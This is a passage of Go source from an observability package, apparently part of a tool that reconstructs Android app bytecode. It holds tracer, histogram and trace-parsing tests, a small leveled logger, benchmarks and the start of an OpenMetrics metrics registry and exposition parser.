	tr := New(NewJSONLSink(&buf))
	s := tr.Start("reveal", "")
	s.End()
	s.End()
	evs := parseAll(t, &buf)
	if len(evs) != 2 {
		t.Fatalf("double End emitted %d events, want 2", len(evs))
	}
	if got := tr.Snapshot().Spans["reveal"].Count; got != 1 {
		t.Errorf("histogram observed %d spans, want 1", got)
	}
}

func TestNilTracerAndSpanAreNoOps(t *testing.T) {
	var tr *Tracer
	if tr.Enabled() {
		t.Fatal("nil tracer reports enabled")
	}
	s := tr.Start("reveal", "x")
	if s != nil {
		t.Fatal("nil tracer returned a live span")
	}
	// All of these must not panic.
	s.End()
	s.TreeFork("m", 0, 1)
	s.UCBFlip("m", 0, true, 0)
	s.ConcurrentEntry("d")
	if c := s.Start("child"); c != nil {
		t.Fatal("nil span returned a live child")
	}
	if tr.Snapshot() != nil {
		t.Fatal("nil tracer returned a snapshot")
	}
	tr.SetEnabled(true) // no-op, no panic
}

func TestDisabledTracerEmitsNothing(t *testing.T) {
	var buf bytes.Buffer
	tr := New(NewJSONLSink(&buf))
	s := tr.Start("reveal", "x")
	tr.SetEnabled(false)
	s.TreeFork("m", 0, 1)
	s.MethodCollected("m", 1, 1)
	s.End()
	if got := buf.String(); strings.Count(got, "\n") != 1 {
		t.Errorf("disabled tracer kept writing: %q", got)
	}
	snap := tr.Snapshot()
	if snap.EventCount(EventTreeFork) != 0 || snap.EventCount(EventMethodCollected) != 0 {
		t.Errorf("disabled tracer kept counting: %+v", snap)
	}
}

func TestMetricsOnlyTracer(t *testing.T) {
	tr := New(nil) // nil sink: metrics, no lines
	s := tr.Start("reveal", "x")
	s.TreeFork("m", 4, 2)
	s.TreeFork("m", 8, 3)
	s.StubEmitted("n")
	s.End()
	snap := tr.Snapshot()
	if got := snap.EventCount(EventTreeFork); got != 2 {
		t.Errorf("tree_fork count = %d, want 2", got)
	}
	if snap.MaxTreeDepth != 3 {
		t.Errorf("MaxTreeDepth = %d, want 3", snap.MaxTreeDepth)
	}
	if hs := snap.Spans["reveal"]; hs.Count != 1 || hs.SumNS < 0 {
		t.Errorf("span histogram wrong: %+v", hs)
	}
}

func TestEventTypeRoundTrip(t *testing.T) {
	for _, et := range EventTypes() {
		data, err := json.Marshal(et)
		if err != nil {
			t.Fatalf("%v: %v", et, err)
		}
		var back EventType
		if err := json.Unmarshal(data, &back); err != nil {
			t.Fatalf("%v: %v", et, err)
		}
		if back != et {
			t.Errorf("round trip %v -> %s -> %v", et, data, back)
		}
	}
	var bad EventType
	if err := json.Unmarshal([]byte(`"warp_core_breach"`), &bad); err == nil {
		t.Error("unknown event name must be rejected")
	}
	if _, err := EventType(200).MarshalText(); err == nil {
		t.Error("unknown event value must not marshal")
	}
}

func TestCounterConcurrentSum(t *testing.T) {
	var c Counter
	const workers, adds = 16, 1000
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < adds; i++ {
				c.Add(1)
			}
		}()
	}
	wg.Wait()
	if got := c.Load(); got != workers*adds {
		t.Errorf("counter = %d, want %d", got, workers*adds)
	}
}

func TestGaugeMax(t *testing.T) {
	var g Gauge
	g.Max(3)
	g.Max(1)
	g.Max(7)
	if got := g.Load(); got != 7 {
		t.Errorf("gauge = %d, want 7", got)
	}
	g.Set(2)
	if got := g.Load(); got != 2 {
		t.Errorf("gauge after Set = %d, want 2", got)
	}
}

func TestHistogramBucketsAndMerge(t *testing.T) {
	var h Histogram
	h.Observe(0)
	h.Observe(1)
	h.Observe(100)
	h.Observe(-5) // clamped to 0
	s := h.Snapshot()
	if s.Count != 4 || s.SumNS != 101 {
		t.Fatalf("count/sum = %d/%d, want 4/101", s.Count, s.SumNS)
	}
	total := int64(0)
	for _, b := range s.Buckets {
		total += b.Count
	}
	if total != 4 {
		t.Errorf("bucket counts sum to %d, want 4", total)
	}

	var h2 Histogram
	h2.Observe(100)
	s2 := h2.Snapshot()
	s.merge(s2)
	if s.Count != 5 || s.SumNS != 201 {
		t.Errorf("merged count/sum = %d/%d, want 5/201", s.Count, s.SumNS)
	}
	for i := 1; i < len(s.Buckets); i++ {
		if s.Buckets[i].LeNS <= s.Buckets[i-1].LeNS {
			t.Errorf("merged buckets not sorted: %+v", s.Buckets)
		}
	}
}

func TestSnapshotMerge(t *testing.T) {
	a := &Snapshot{
		Events:       map[string]int64{"tree_fork": 2},
		MaxTreeDepth: 2,
		Spans:        map[string]HistSnapshot{"reveal": {Count: 1, SumNS: 10}},
	}
	b := &Snapshot{
		Events:       map[string]int64{"tree_fork": 1, "stub_emitted": 4},
		MaxTreeDepth: 5,
		Dropped:      1,
		Spans:        map[string]HistSnapshot{"reveal": {Count: 2, SumNS: 30}},
	}
	got := MergeSnapshots(a, b)
	if got.Events["tree_fork"] != 3 || got.Events["stub_emitted"] != 4 {
		t.Errorf("merged events wrong: %+v", got.Events)
	}
	if got.MaxTreeDepth != 5 || got.Dropped != 1 {
		t.Errorf("merged depth/dropped = %d/%d", got.MaxTreeDepth, got.Dropped)
	}
	if hs := got.Spans["reveal"]; hs.Count != 3 || hs.SumNS != 40 {
		t.Errorf("merged span hist wrong: %+v", hs)
	}
	if MergeSnapshots(nil, nil) != nil {
		t.Error("merging two nils must stay nil")
	}
	if m := MergeSnapshots(nil, b); m == nil || m.Events["stub_emitted"] != 4 {
		t.Error("merging into nil must copy src")
	}
}

type failWriter struct{ n int }

func (w *failWriter) Write(p []byte) (int, error) {
	w.n++
	return 0, errors.New("disk full")
}

func TestSinkErrorCountsDropped(t *testing.T) {
	w := &failWriter{}
	sink := NewJSONLSink(w)
	tr := New(sink)
	s := tr.Start("reveal", "x")
	s.TreeFork("m", 0, 1)
	s.End()
	if tr.Dropped() != 3 {
		t.Errorf("dropped = %d, want 3", tr.Dropped())
	}
	if sink.Err() == nil {
		t.Error("sink error not latched")
	}
	if w.n != 1 {
		t.Errorf("sink kept writing after error: %d writes", w.n)
	}
}

func TestConcurrentTracersSharedSink(t *testing.T) {
	var buf bytes.Buffer
	sink := NewJSONLSink(&buf)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			tr := New(sink)
			root := tr.Start("reveal", "app")
			for j := 0; j < 50; j++ {
				root.TreeFork("m", j, 1)
			}
			root.End()
		}(i)
	}
	wg.Wait()
	evs := parseAll(t, &buf)
	if len(evs) != 8*52 {
		t.Fatalf("got %d events, want %d", len(evs), 8*52)
	}
	seen := make(map[uint64]bool)
	for _, ev := range evs {
		if ev.Type == EventSpanStart {
			if seen[ev.Span] {
				t.Fatalf("span id %d reused across tracers", ev.Span)
			}
			seen[ev.Span] = true
		}
	}
}
