package obs

import (
	"fmt"
	"io"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Level orders log verbosity; messages below the active level are dropped
// before formatting.
type Level int32

// The log levels, least to most severe. LevelOff silences everything.
const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
	LevelOff
)

var levelNames = map[Level]string{
	LevelDebug: "debug",
	LevelInfo:  "info",
	LevelWarn:  "warn",
	LevelError: "error",
	LevelOff:   "off",
}

func (l Level) String() string {
	if s, ok := levelNames[l]; ok {
		return s
	}
	return fmt.Sprintf("level(%d)", int32(l))
}

// ParseLevel resolves a -log-level flag value.
func ParseLevel(s string) (Level, error) {
	for l, name := range levelNames {
		if name == strings.ToLower(s) {
			return l, nil
		}
	}
	return LevelOff, fmt.Errorf("obs: unknown log level %q (want debug|info|warn|error|off)", s)
}

var (
	logLevel atomic.Int32 // default LevelInfo via init
	logMu    sync.Mutex
	logOut   io.Writer = os.Stderr
)

func init() { logLevel.Store(int32(LevelInfo)) }

// SetLogLevel sets the process-wide log threshold.
func SetLogLevel(l Level) { logLevel.Store(int32(l)) }

// LogLevel returns the active threshold.
func LogLevel() Level { return Level(logLevel.Load()) }

// SetLogOutput redirects log lines (tests; default os.Stderr).
func SetLogOutput(w io.Writer) {
	logMu.Lock()
	defer logMu.Unlock()
	logOut = w
}

func logf(l Level, format string, args ...any) {
	if l < LogLevel() {
		return
	}
	line := fmt.Sprintf("%s %-5s %s\n",
		time.Now().Format("15:04:05.000"), strings.ToUpper(l.String()),
		fmt.Sprintf(format, args...))
	logMu.Lock()
	defer logMu.Unlock()
	io.WriteString(logOut, line)
}

// Debugf logs at debug level.
func Debugf(format string, args ...any) { logf(LevelDebug, format, args...) }

// Infof logs at info level.
func Infof(format string, args ...any) { logf(LevelInfo, format, args...) }

// Warnf logs at warn level.
func Warnf(format string, args ...any) { logf(LevelWarn, format, args...) }

// Errorf logs at error level.
func Errorf(format string, args ...any) { logf(LevelError, format, args...) }
