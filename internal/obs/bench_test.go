package obs

import (
	"io"
	"testing"
)

// The disabled fast path is the whole point of the obs design: hot loops in
// the collector and interpreter call span emitters unconditionally, so the
// off cost must stay at a few nanoseconds per event. BenchmarkNilSpanEvent
// (the default: tracing never configured) and BenchmarkDisabledTracerEvent
// (a live tracer atomically switched off) pin the two off states; both are
// run in CI under -race with -benchtime=1x for the data-race dimension.

// BenchmarkNilSpanEvent measures the no-op default: a nil *Span, which is
// what every instrumented layer holds when no tracer was configured.
func BenchmarkNilSpanEvent(b *testing.B) {
	var s *Span
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.TreeFork("La;->m()V", i, 1)
	}
}

// BenchmarkDisabledTracerEvent measures a live span whose tracer was
// disabled: one pointer check plus one atomic load per event.
func BenchmarkDisabledTracerEvent(b *testing.B) {
	tr := New(nil)
	s := tr.Start("bench", "")
	tr.SetEnabled(false)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.TreeFork("La;->m()V", i, 1)
	}
}

// BenchmarkMetricsOnlyEvent measures the nil-sink path: counters update,
// no line is encoded.
func BenchmarkMetricsOnlyEvent(b *testing.B) {
	tr := New(nil)
	s := tr.Start("bench", "")
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.TreeFork("La;->m()V", i, 1)
	}
}

// BenchmarkJSONLEvent measures the full enabled path: encode one event and
// write it through the sink.
func BenchmarkJSONLEvent(b *testing.B) {
	tr := New(NewJSONLSink(io.Discard))
	s := tr.Start("bench", "")
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.TreeFork("La;->m()V", i, 1)
	}
}

// BenchmarkFlightRecorderEmit measures the armed ring: claim a slot, one
// pointer store, no tee.
func BenchmarkFlightRecorderEmit(b *testing.B) {
	f := NewFlightRecorder(nil, 256)
	line := []byte(`{"t":"span_start","span":1}` + "\n")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.Emit(line)
	}
}

// BenchmarkFlightRecorderDisarmed measures the disarmed recorder: one
// atomic load, zero allocations — the cost every event pays when flight
// recording is compiled in but switched off.
func BenchmarkFlightRecorderDisarmed(b *testing.B) {
	f := NewFlightRecorder(nil, 256)
	f.SetEnabled(false)
	line := []byte(`{"t":"span_start","span":1}` + "\n")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.Emit(line)
	}
}

// BenchmarkCounterAdd isolates the sharded counter.
func BenchmarkCounterAdd(b *testing.B) {
	var c Counter
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			c.Add(1)
		}
	})
	if c.Load() != int64(b.N) {
		b.Fatal("lost updates")
	}
}
