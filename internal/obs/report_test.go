package obs

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func TestReadTraceRejectsBadLines(t *testing.T) {
	cases := []struct{ name, line string }{
		{"unknown type", `{"ev":"warp","tsNS":1}`},
		{"unknown field", `{"ev":"tree_fork","tsNS":1,"method":"m","depth":1,"zorp":3}`},
		{"fork without method", `{"ev":"tree_fork","tsNS":1,"depth":1}`},
		{"fork without depth", `{"ev":"tree_fork","tsNS":1,"method":"m"}`},
		{"flip with bad branch", `{"ev":"ucb_flip","tsNS":1,"method":"m","branch":"sideways"}`},
		{"span without name", `{"ev":"span_start","tsNS":1,"span":4}`},
		{"negative timestamp", `{"ev":"stub_emitted","tsNS":-1,"method":"m"}`},
		{"merge shrink impossible", `{"ev":"merge_variant","tsNS":1,"method":"m","from":1,"count":3}`},
		{"defect without detail", `{"ev":"verify_defect","tsNS":1}`},
		{"cache hit without key", `{"ev":"cache_hit","tsNS":1}`},
		{"cache miss without key", `{"ev":"cache_miss","tsNS":1}`},
		{"enqueue without job id", `{"ev":"job_enqueued","tsNS":1}`},
		{"queue wait without job id", `{"ev":"queue_wait","tsNS":1,"durNS":5}`},
		{"queue wait negative", `{"ev":"queue_wait","tsNS":1,"detail":"job-1","durNS":-5}`},
		{"job done bad outcome", `{"ev":"job_done","tsNS":1,"detail":"job-1","name":"maybe"}`},
		{"job done without job id", `{"ev":"job_done","tsNS":1,"name":"ok"}`},
		{"resource sample without stage", `{"ev":"resource_sample","tsNS":1,"bytes":10}`},
		{"resource sample negative bytes", `{"ev":"resource_sample","tsNS":1,"name":"collection","bytes":-1}`},
		{"slo violation without job id", `{"ev":"slo_violation","tsNS":1,"durNS":10,"sloNS":5}`},
		{"slo violation without objective", `{"ev":"slo_violation","tsNS":1,"detail":"job-1","durNS":10}`},
		{"slo violation not violated", `{"ev":"slo_violation","tsNS":1,"detail":"job-1","durNS":3,"sloNS":5}`},
		{"flight dump bad reason", `{"ev":"flight_dump","tsNS":1,"detail":"job-1","name":"sunny","count":3}`},
		{"flight dump without job id", `{"ev":"flight_dump","tsNS":1,"name":"failed","count":3}`},
		{"flight dump negative count", `{"ev":"flight_dump","tsNS":1,"detail":"job-1","name":"failed","count":-3}`},
		{"peer fetch bad outcome", `{"ev":"peer_fetch","tsNS":1,"detail":"k","target":"n1","name":"sideways"}`},
		{"peer fetch without peer", `{"ev":"peer_fetch","tsNS":1,"detail":"k","name":"hit"}`},
		{"forward bad role", `{"ev":"fleet_forward","tsNS":1,"detail":"k","target":"n1","name":"bystander"}`},
		{"forward without key", `{"ev":"fleet_forward","tsNS":1,"target":"n1","name":"owner"}`},
		{"hop without node", `{"ev":"fleet_hop","tsNS":1,"detail":"job-1"}`},
		{"ring rebuild empty", `{"ev":"ring_rebuild","tsNS":1,"from":3}`},
		{"ring rebuild overfull", `{"ev":"ring_rebuild","tsNS":1,"count":4,"from":3}`},
		{"not json", `hello`},
	}
	for _, c := range cases {
		if _, err := ReadTrace(strings.NewReader(c.line + "\n")); err == nil {
			t.Errorf("%s: line %q must be rejected", c.name, c.line)
		}
	}
	// Error carries the offending line number.
	good := `{"ev":"span_start","tsNS":1,"span":1,"name":"reveal"}`
	_, err := ReadTrace(strings.NewReader(good + "\n" + `{"ev":"warp"}` + "\n"))
	if err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("error must name line 2, got %v", err)
	}
}

func TestReadTraceSkipsBlankLines(t *testing.T) {
	in := "\n" + `{"ev":"span_start","tsNS":1,"span":1,"name":"reveal","app":"a"}` + "\n\n"
	tr, err := ReadTrace(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Events) != 1 {
		t.Fatalf("got %d events, want 1", len(tr.Events))
	}
}

// buildTwoAppTrace emits a realistic two-app trace through real tracers
// sharing one sink, as cmd/dexlego -batch -trace-out does.
func buildTwoAppTrace(t *testing.T) *Trace {
	t.Helper()
	var buf bytes.Buffer
	sink := NewJSONLSink(&buf)

	trA := New(sink)
	rootA := trA.Start("reveal", "app-a")
	colA := rootA.Start("stage.collection")
	colA.TreeFork("La;->m()V", 6, 1)
	colA.TreeFork("La;->m()V", 6, 2)
	colA.TreeConverge("La;->m()V", 10, 1)
	colA.MethodCollected("La;->m()V", 3, 40)
	colA.MethodCollected("La;->n()V", 1, 7)
	colA.End()
	feA := rootA.Start("stage.force-execution")
	feA.UCBFlip("La;->m()V", 6, true, 0)
	feA.UCBFlip("La;->m()V", 8, false, 1)
	feA.ExceptionTolerated("La;->m()V", 9)
	feA.End()
	reA := rootA.Start("stage.reassembly")
	reA.MergeVariant("La;->m()V", 3, 2)
	reA.StubEmitted("La;->unused()V")
	reA.ReflectionRewrite("La;->r()V", 4, "call_0")
	reA.End()
	rootA.End()

	trB := New(sink)
	rootB := trB.Start("reveal", "app-b")
	colB := rootB.Start("stage.collection")
	colB.MethodCollected("Lb;->p()V", 1, 3)
	colB.End()
	rootB.End()

	tr, err := ReadTrace(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	return tr
}

func TestTraceAppsAttribution(t *testing.T) {
	apps := buildTwoAppTrace(t).Apps()
	if len(apps) != 2 {
		t.Fatalf("got %d apps, want 2", len(apps))
	}
	a, b := apps[0], apps[1]
	if a.App != "app-a" || b.App != "app-b" {
		t.Fatalf("apps sorted wrong: %q, %q", a.App, b.App)
	}
	if a.ForksByMethod["La;->m()V"] != 2 || a.Converges != 1 {
		t.Errorf("app-a forks/converges wrong: %+v, %d", a.ForksByMethod, a.Converges)
	}
	if a.MethodsCollected != 2 || a.CollectedInsns != 47 {
		t.Errorf("app-a methods/insns = %d/%d, want 2/47", a.MethodsCollected, a.CollectedInsns)
	}
	if a.TreeDepthHist[3] != 1 || a.TreeDepthHist[1] != 1 {
		t.Errorf("app-a depth hist wrong: %+v", a.TreeDepthHist)
	}
	if a.FlipsByIter[0] != 1 || a.FlipsByIter[1] != 1 || a.ExceptionsTol != 1 {
		t.Errorf("app-a flips wrong: %+v", a.FlipsByIter)
	}
	if len(a.Merges) != 1 || a.Merges[0] != (MergeDecision{"La;->m()V", 3, 2}) {
		t.Errorf("app-a merges wrong: %+v", a.Merges)
	}
	if a.Stubs != 1 || a.ReflRewrites != 1 {
		t.Errorf("app-a stubs/refl = %d/%d", a.Stubs, a.ReflRewrites)
	}
	if len(a.StageNS) != 3 || a.StageNS["collection"] <= 0 {
		t.Errorf("app-a stages wrong: %+v", a.StageNS)
	}
	if a.WallNS <= 0 {
		t.Errorf("app-a wall = %d, want > 0", a.WallNS)
	}
	if b.MethodsCollected != 1 || len(b.ForksByMethod) != 0 {
		t.Errorf("app-b contaminated by app-a events: %+v", b)
	}
}

// TestTelemetryEventsAggregation drives the three telemetry emitters
// through a real tracer and checks both schema acceptance and per-app
// aggregation of the resource/SLO/flight counters.
func TestTelemetryEventsAggregation(t *testing.T) {
	var buf bytes.Buffer
	tr := New(NewJSONLSink(&buf))
	root := tr.Start("reveal", "app-a")
	root.ResourceSample("collection", 1000, 400)
	root.ResourceSample("reassembly", 500, 900)
	root.ResourceSample("verify", 200, -100) // heap shrank: legal, not a peak
	root.SLOViolation("job-1", 10*time.Millisecond, 5*time.Millisecond)
	root.FlightDump("job-1", 42, FlightReasonSLO)
	root.End()

	trace, err := ReadTrace(&buf)
	if err != nil {
		t.Fatalf("telemetry events failed schema validation: %v", err)
	}
	apps := trace.Apps()
	if len(apps) != 1 {
		t.Fatalf("got %d apps, want 1", len(apps))
	}
	a := apps[0]
	if a.ResourceSamples != 3 || a.AllocBytes != 1700 {
		t.Errorf("samples/alloc = %d/%d, want 3/1700", a.ResourceSamples, a.AllocBytes)
	}
	if a.PeakHeapDelta != 900 {
		t.Errorf("peak heap delta = %d, want 900", a.PeakHeapDelta)
	}
	if a.SLOViolations != 1 || a.FlightDumps != 1 {
		t.Errorf("slo/flight = %d/%d, want 1/1", a.SLOViolations, a.FlightDumps)
	}
	rep := trace.ReportString()
	for _, want := range []string{"resources:", "SLO violations: 1"} {
		if !strings.Contains(rep, want) {
			t.Errorf("report missing %q:\n%s", want, rep)
		}
	}
}

func TestTraceReportString(t *testing.T) {
	rep := buildTwoAppTrace(t).ReportString()
	for _, want := range []string{
		"app app-a",
		"app app-b",
		"stage collection",
		"tree depth histogram: depth1:1 depth3:1",
		"La;->m()V",
		"ucb flips by iteration: iter0:1 iter1:1",
		"3 tree(s) -> 2 array(s)",
		"stubs: 1, reflection rewrites: 1, verify defects: 0",
	} {
		if !strings.Contains(rep, want) {
			t.Errorf("report missing %q:\n%s", want, rep)
		}
	}
}

func TestTraceUnattributedEvents(t *testing.T) {
	// An event referencing a span that never started lands in the
	// unattributed bucket rather than being dropped or crashing.
	in := `{"ev":"stub_emitted","tsNS":5,"span":999,"method":"Lx;->y()V"}`
	tr, err := ReadTrace(strings.NewReader(in + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	apps := tr.Apps()
	if len(apps) != 1 || apps[0].App != "(unattributed)" || apps[0].Stubs != 1 {
		t.Errorf("unattributed bucket wrong: %+v", apps)
	}
}
