// OpenMetrics exposition: a typed metric registry rendered in the
// OpenMetrics/Prometheus text format, plus a strict parser of that format
// used by tests and the CI service-smoke scrape as a lint.
//
// The registry reuses the lock-free primitives of this package (Counter,
// Gauge, Histogram) as its sample backing, so instrumented hot paths pay
// the same few-nanosecond cost whether a sample is scraped or not. Lazy
// variants (CounterFunc, GaugeFunc, HistogramFunc) read a value at scrape
// time, which lets the server expose counters it already maintains as
// atomics without double accounting.
//
// Durations are exposed in nanoseconds (metric names carry the
// _nanoseconds suffix) because the underlying histograms bucket raw int64
// observations; rendering converts nothing, so a scraped value is exactly
// the recorded one.
package obs

import (
	"bufio"
	"fmt"
	"io"
	"math"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// MetricType is the OpenMetrics type of a metric family.
type MetricType uint8

// The supported metric types.
const (
	TypeCounter MetricType = iota
	TypeGauge
	TypeHistogram
)

func (t MetricType) String() string {
	switch t {
	case TypeCounter:
		return "counter"
	case TypeGauge:
		return "gauge"
	case TypeHistogram:
		return "histogram"
	}
	return fmt.Sprintf("metrictype(%d)", uint8(t))
}

// Label is one name="value" pair attached to a metric series.
type Label struct {
	Key   string
	Value string
}

// L is shorthand for constructing a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// metricNameRE validates metric and label names (the OpenMetrics subset we
// emit; no colons, which are reserved for recording rules).
var metricNameRE = regexp.MustCompile(`^[a-zA-Z_][a-zA-Z0-9_]*$`)

// series is one labeled sample stream inside a family. Exactly one of the
// value fields is set, matching the family's type.
type series struct {
	labels  []Label
	counter *Counter
	gauge   *Gauge
	hist    *Histogram
	intFn   func() int64
	histFn  func() HistSnapshot
}

// family is one named metric family: a type, help text, and its series in
// registration order.
type family struct {
	name   string
	help   string
	typ    MetricType
	series []*series
	byKey  map[string]*series
}

// Registry is a typed metric registry rendered as one OpenMetrics
// exposition. Registration panics on malformed names or type conflicts —
// metrics are wired at construction time, so a bad registration is a
// programming error, not an operational condition. Registered Counter,
// Gauge and Histogram handles are lock-free and safe for concurrent use;
// WriteOpenMetrics may run concurrently with observation.
type Registry struct {
	prefix string

	mu       sync.Mutex
	families []*family
	byName   map[string]*family
}

// NewRegistry returns an empty registry whose metric names are prefixed
// with prefix + "_" (e.g. "dexlego").
func NewRegistry(prefix string) *Registry {
	if prefix != "" && !metricNameRE.MatchString(prefix) {
		panic(fmt.Sprintf("obs: bad metric prefix %q", prefix))
	}
	return &Registry{prefix: prefix, byName: make(map[string]*family)}
}

// register resolves (or creates) the family and appends one series.
func (r *Registry) register(name, help string, typ MetricType, labels []Label, s *series) {
	if !metricNameRE.MatchString(name) {
		panic(fmt.Sprintf("obs: bad metric name %q", name))
	}
	full := name
	if r.prefix != "" {
		full = r.prefix + "_" + name
	}
	for _, l := range labels {
		if !metricNameRE.MatchString(l.Key) {
			panic(fmt.Sprintf("obs: metric %s: bad label name %q", full, l.Key))
		}
	}
	s.labels = labels
	key := renderLabels(labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	f, ok := r.byName[full]
	if !ok {
		f = &family{name: full, help: help, typ: typ, byKey: make(map[string]*series)}
		r.byName[full] = f
		r.families = append(r.families, f)
	}
	if f.typ != typ {
		panic(fmt.Sprintf("obs: metric %s registered as both %s and %s", full, f.typ, typ))
	}
	if _, dup := f.byKey[key]; dup {
		panic(fmt.Sprintf("obs: metric %s%s registered twice", full, key))
	}
	f.byKey[key] = s
	f.series = append(f.series, s)
}

// Counter registers a counter series and returns its lock-free handle.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	c := &Counter{}
	r.register(name, help, TypeCounter, labels, &series{counter: c})
	return c
}

// CounterFunc registers a counter series whose value is read at scrape
// time; fn must be monotonically non-decreasing and safe for concurrent
// use.
func (r *Registry) CounterFunc(name, help string, fn func() int64, labels ...Label) {
	r.register(name, help, TypeCounter, labels, &series{intFn: fn})
}

// Gauge registers a gauge series and returns its lock-free handle.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	g := &Gauge{}
	r.register(name, help, TypeGauge, labels, &series{gauge: g})
	return g
}

// GaugeFunc registers a gauge series whose value is read at scrape time;
// fn must be safe for concurrent use.
func (r *Registry) GaugeFunc(name, help string, fn func() int64, labels ...Label) {
	r.register(name, help, TypeGauge, labels, &series{intFn: fn})
}

// Histogram registers a histogram series and returns its lock-free handle
// (log2-bucketed, see Histogram).
func (r *Registry) Histogram(name, help string, labels ...Label) *Histogram {
	h := &Histogram{}
	r.register(name, help, TypeHistogram, labels, &series{hist: h})
	return h
}

// HistogramFunc registers a histogram series whose snapshot is read at
// scrape time; fn must be safe for concurrent use.
func (r *Registry) HistogramFunc(name, help string, fn func() HistSnapshot, labels ...Label) {
	r.register(name, help, TypeHistogram, labels, &series{histFn: fn})
}

// escapeLabelValue applies the OpenMetrics label value escaping.
func escapeLabelValue(v string) string {
	var sb strings.Builder
	for _, r := range v {
		switch r {
		case '\\':
			sb.WriteString(`\\`)
		case '"':
			sb.WriteString(`\"`)
		case '\n':
			sb.WriteString(`\n`)
		default:
			sb.WriteRune(r)
		}
	}
	return sb.String()
}

// renderLabels renders `{k="v",...}` ("" when unlabeled).
func renderLabels(labels []Label) string {
	if len(labels) == 0 {
		return ""
	}
	var sb strings.Builder
	sb.WriteByte('{')
	for i, l := range labels {
		if i > 0 {
			sb.WriteByte(',')
		}
		fmt.Fprintf(&sb, `%s="%s"`, l.Key, escapeLabelValue(l.Value))
	}
	sb.WriteByte('}')
	return sb.String()
}

// renderLabelsWith renders labels plus one extra pair (the histogram le).
func renderLabelsWith(labels []Label, key, value string) string {
	all := make([]Label, 0, len(labels)+1)
	all = append(all, labels...)
	all = append(all, Label{Key: key, Value: value})
	return renderLabels(all)
}

// WriteOpenMetrics renders every registered family in registration order as
// one OpenMetrics text exposition, terminated by "# EOF".
func (r *Registry) WriteOpenMetrics(w io.Writer) error {
	bw := bufio.NewWriter(w)
	r.mu.Lock()
	fams := append([]*family(nil), r.families...)
	r.mu.Unlock()
	for _, f := range fams {
		fmt.Fprintf(bw, "# TYPE %s %s\n", f.name, f.typ)
		if f.help != "" {
			fmt.Fprintf(bw, "# HELP %s %s\n", f.name, strings.ReplaceAll(f.help, "\n", " "))
		}
		for _, s := range f.series {
			labels := renderLabels(s.labels)
			switch f.typ {
			case TypeCounter:
				fmt.Fprintf(bw, "%s_total%s %d\n", f.name, labels, s.intValue())
			case TypeGauge:
				fmt.Fprintf(bw, "%s%s %d\n", f.name, labels, s.intValue())
			case TypeHistogram:
				snap := s.histValue()
				var cum int64
				for _, b := range snap.Buckets {
					cum += b.Count
					if b.LeNS == math.MaxInt64 {
						continue // folded into the +Inf bucket below
					}
					fmt.Fprintf(bw, "%s_bucket%s %d\n",
						f.name, renderLabelsWith(s.labels, "le", strconv.FormatInt(b.LeNS, 10)), cum)
				}
				// A torn snapshot under concurrent observation can leave
				// Count one short of the bucket sum; publish the max so the
				// exposition is always internally consistent (cumulative
				// buckets, +Inf == _count).
				total := snap.Count
				if cum > total {
					total = cum
				}
				fmt.Fprintf(bw, "%s_bucket%s %d\n",
					f.name, renderLabelsWith(s.labels, "le", "+Inf"), total)
				fmt.Fprintf(bw, "%s_sum%s %d\n", f.name, labels, snap.SumNS)
				fmt.Fprintf(bw, "%s_count%s %d\n", f.name, labels, total)
			}
		}
	}
	fmt.Fprint(bw, "# EOF\n")
	return bw.Flush()
}

func (s *series) intValue() int64 {
	switch {
	case s.counter != nil:
		return s.counter.Load()
	case s.gauge != nil:
		return s.gauge.Load()
	case s.intFn != nil:
		return s.intFn()
	}
	return 0
}

func (s *series) histValue() HistSnapshot {
	switch {
	case s.hist != nil:
		return s.hist.Snapshot()
	case s.histFn != nil:
		return s.histFn()
	}
	return HistSnapshot{}
}

// --- exposition parsing / linting --------------------------------------------

// ExpoSample is one parsed sample line of an exposition.
type ExpoSample struct {
	Name   string
	Labels map[string]string
	Value  float64
}

// Label returns a label value ("" when absent).
func (s *ExpoSample) Label(key string) string { return s.Labels[key] }

// ExpoFamily is one parsed metric family with its samples in file order.
type ExpoFamily struct {
	Name    string
	Type    string
	Help    string
	Samples []ExpoSample
}

// Exposition is a parsed, validated OpenMetrics text exposition.
type Exposition struct {
	Families []*ExpoFamily
	byName   map[string]*ExpoFamily
}

// Family returns the named family (nil when absent).
func (e *Exposition) Family(name string) *ExpoFamily { return e.byName[name] }

// Value returns the value of the sample with exactly the given labels under
// the family that owns sample name `sample` (the suffixed name, e.g.
// "dexlego_jobs_submitted_total").
func (e *Exposition) Value(sample string, labels ...Label) (float64, bool) {
	for _, f := range e.Families {
		for _, s := range f.Samples {
			if s.Name != sample || len(s.Labels) != len(labels) {
				continue
			}
			match := true
			for _, l := range labels {
				if s.Labels[l.Key] != l.Value {
					match = false
					break
				}
			}
			if match {
				return s.Value, true
			}
		}
	}
	return 0, false
}

// sampleFamily maps a sample name to its family name given the family type.
func sampleFamily(name, typ string) (string, bool) {
	switch typ {
	case "counter":
		return strings.TrimSuffix(name, "_total"), strings.HasSuffix(name, "_total")
	case "gauge":
		return name, true
	case "histogram":
		for _, suf := range []string{"_bucket", "_sum", "_count"} {
			if strings.HasSuffix(name, suf) {
				return strings.TrimSuffix(name, suf), true
			}
		}
		return "", false
